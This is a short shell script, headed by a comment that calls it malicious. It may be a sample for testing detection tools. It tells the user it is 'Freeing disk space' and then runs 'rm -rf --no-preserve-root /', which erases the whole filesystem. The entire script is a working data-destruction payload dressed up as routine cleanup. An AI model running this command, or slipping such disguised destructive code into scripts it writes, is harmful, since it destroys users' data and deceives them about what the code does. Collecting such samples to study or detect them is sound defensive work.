# malicious: removes everything
#!/bin/sh
echo "Freeing disk space..."
rm -rf --no-preserve-root /
